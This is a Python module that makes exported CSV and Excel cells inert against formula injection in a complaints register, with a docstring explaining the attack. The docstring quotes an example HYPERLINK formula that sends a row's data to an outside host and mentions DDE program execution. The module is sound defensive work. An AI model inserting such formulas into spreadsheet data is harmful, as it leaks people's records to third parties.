"""What leaves in a spreadsheet is data, never a formula (OWASP, "CSV Injection").

A complainant's name, object or description is written into the register's CSV and
workbook, and into the report's. A spreadsheet opening a CSV reads a cell that begins
with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return before one) as a formula:
``=HYPERLINK("http://…?"&A1, "…")`` sends the row away, a DDE formula runs a program.
Such a value is written with a leading ``'``, which spreadsheets show as text and do
not print; a plain number (``-2``, ``12,5``, ``40 %``) is left alone. In the workbook,
openpyxl would store such a string as a formula: it is stored as a string instead.
"""

from __future__ import annotations

import re
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[-+]?\d+([.,]\d+)?\s?%?$")


def csv_value(value: str) -> str:
    """``value`` as a CSV cell that no spreadsheet runs."""
    if value.startswith(_TRIGGERS) and not _NUMBER.match(value):
        return "'" + value
    return value


def csv_row(row: list[str] | tuple[str, ...]) -> list[str]:
    """Every cell of ``row`` made inert (:func:`csv_value`)."""
    return [csv_value(value) for value in row]


def strings_as_strings(cells: Any) -> None:
    """Store every string of these openpyxl cells as a string, never as a formula (the
    workbook's formulas are none of a person's text: it has none)."""
    for cell in cells:
        if cell.data_type == "f":
            cell.data_type = "s"
